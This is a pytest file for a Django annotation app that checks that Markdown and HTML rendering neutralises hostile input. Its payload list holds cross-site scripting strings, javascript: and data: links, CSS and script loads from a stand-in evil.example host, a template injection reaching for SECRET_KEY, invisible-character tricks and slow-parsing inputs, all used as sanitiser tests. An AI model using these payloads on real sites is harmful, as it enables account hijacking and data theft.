"""Hostile text stays text: whatever a post or a draft holds, only what is on the list reaches the page."""

import time
from html.parser import HTMLParser

import pytest
from django.utils.safestring import SafeString

from annotation import rendering

ELEMENTS = rendering.TAGS | {"span"}
ATTRIBUTES = {"a": {"href", "rel", "target"}, "ol": {"start"}, "span": {"class"}, "p": {"class"}}

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "![t](http://evil.example/p.png?u=1)",
    "![t](http://evil.example/p.png 'onload=alert(1)')",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/png;base64,AAAA)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/accounts/logout/)",
    "[x](\\\\evil.example)",
    "[x](http://evil.example/\" onmouseover=\"alert(1))",
    "[x](<http://evil.example/\"><script>alert(1)</script>>)",
    "[x](http://evil.example 'title\" onmouseover=\"alert(1)')",
    "<javascript:alert(1)>",
    "<data:text/html,hi>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    '<b hx-get="/api/v1/me/" hx-trigger="load">x</b>',
    '<i data-hx-post="/review/decide/">x</i>',
    "<b hx-on::load='alert(1)' hx-vals='js:alert(1)'>x</b>",
    "<form hx-boost action=/review/undo/><button formaction=javascript:alert(1)>x</form>",
    '<p style="position:fixed;inset:0;background:url(//evil.example)">x</p>',
    "<style>@import '//evil.example/x.css'; input[value^=a]{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example><meta http-equiv=refresh content='0;//evil.example'><base href=//evil.example>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
    "<template><img src=x onerror=alert(1)></template>",
    '<details open ontoggle="alert(1)"><summary id=title name=forms>x</summary></details>',
    "<a href=http://ok.example id=decision class=btn target=_top>x</a>",
    "<textarea></textarea><script>alert(1)</script>",
    "</div></main><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "`<script>alert(1)</script>`",
    "```html\" onload=alert(1)\n<script>alert(1)</script>\n```",
    "| <img src=x onerror=alert(1)> | [x](javascript:1) |\n|---|---|\n| <script>1</script> | y |",
    "# <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ settings.SECRET_KEY }}{% debug %}",
    "\u202e<script>\u202c",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "[x](http://evil.example/\u202egnp.exe)",
    "<http://пример.example/\u200b>",
]  # fmt: skip


class Seen(HTMLParser):
    """Every element and attribute of a piece of HTML, as a parser sees it."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text += data


def foreign(html: str) -> list[str]:
    """What is in there and on no list."""
    wrong = []
    for tag, attributes in Seen(html).tags:
        if tag not in ELEMENTS:
            wrong.append(tag)
        wrong += [f"{tag}[{name}]" for name in attributes if name not in ATTRIBUTES.get(tag, set())]
        href = attributes.get("href")
        if href is not None and not href.startswith(("http://", "https://")):
            wrong.append(href)
        if tag == "a" and attributes.get("rel") != "nofollow ugc noopener noreferrer":
            wrong.append("a without rel")
    return wrong


def test_the_test_itself_sees_what_is_foreign():
    assert foreign('<img src=x onerror=alert(1)><a href="javascript:1">x</a><p style="x">') == [
        "img", "img[src]", "img[onerror]", "javascript:1", "a without rel", "p[style]",
    ]  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_foreign_comes_out_of_markdown(payload):
    html = rendering.prose(payload)
    assert foreign(html) == []
    assert isinstance(html, SafeString)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_foreign_comes_out_where_text_goes_on_beyond_the_limit(payload):
    assert foreign(rendering.prose("字" * (rendering.RENDERED - 3) + payload)) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_plain_text_is_only_text(payload):
    assert {tag for tag, _attributes in Seen(rendering.plain(payload)).tags} <= {"span"}
    assert foreign(rendering.plain(payload)) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_diff_is_only_text(payload):
    html = rendering.changes([("equal", payload), ("delete", payload), ("insert", payload)])
    assert {tag for tag, _attributes in Seen(html).tags} <= {"ins", "del", "span"}


def test_markdown_is_rendered():
    html = rendering.prose("**粗** *着重*\n第二行\n\n1. 一\n2. 二\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[链接](https://ok.example/路)")
    for piece in ("<strong>粗</strong>", "<em>着重</em><br>", "<li>一</li>", "<td>1</td>", 'href="https://ok.example/%E8%B7%AF"'):
        assert piece in html


def test_headings_start_below_those_of_the_page():
    assert "<h3>一</h3>" in rendering.prose("# 一")
    assert "<h6>六</h6>" in rendering.prose("###### 六")


def test_an_image_is_shown_as_its_address_and_not_loaded():
    html = rendering.prose("![表情](https://evil.example/p.png)")
    assert "<img" not in html
    assert "表情" in html


@pytest.mark.parametrize("char", ["\u202e", "\u2066", "\u200b", "\u200f", "\ufeff", "\U000e0041", "\x1b", "\u3164", "\u00ad"])
def test_invisible_characters_are_shown(char):
    sign = f'<span class="inv">U+{ord(char):04X}</span>'
    assert sign in rendering.plain(f"文{char}件")
    assert sign in rendering.prose(f"文{char}件")
    assert sign in rendering.changes([("insert", char)])
    assert char not in rendering.prose(f"文{char}件")


def test_an_emoji_family_is_left_in_one_piece():
    assert "inv" not in rendering.plain("👨‍👩‍👧 ❤️‍🔥")
    assert "U+200D" in rendering.plain("字\u200d字")


def test_changed_spaces_and_line_ends_are_shown():
    assert rendering.changes([("equal", "一 二"), ("delete", " "), ("insert", "\n")]) == "一 二<del>·</del><ins>⏎\n</ins>"


def test_what_is_beyond_the_limit_is_shown_as_it_is():
    html = rendering.prose("字" * rendering.RENDERED + "**尾**")
    assert html.endswith('<p class="rest">**尾**</p>')


@pytest.mark.parametrize("bomb", ["[", "*a **a ", "[a](", "`" + "``a", "|a", "> ", "- ", "<", "&", "_", "![", "a\n\n", "\u202e"])
def test_hostile_markdown_costs_no_more_than_a_moment(bomb):
    start = time.process_time()
    rendering.prose((bomb * rendering.RENDERED)[:200_000])
    assert time.process_time() - start < 3


@pytest.mark.parametrize(
    ("text", "lang"),
    [
        ("这个问题该怎么回答", "zh-Hans"),
        ("這個問題該怎麼回答", "zh-Hant"),
        ("Hello there, world", "en"),
        ("", "zh-Hans"),
        ("用 Python 写一个循环", "zh-Hans"),
    ],
)
def test_the_language_of_a_text_is_told_by_its_characters(text, lang):
    assert rendering.lang_of(text) == lang
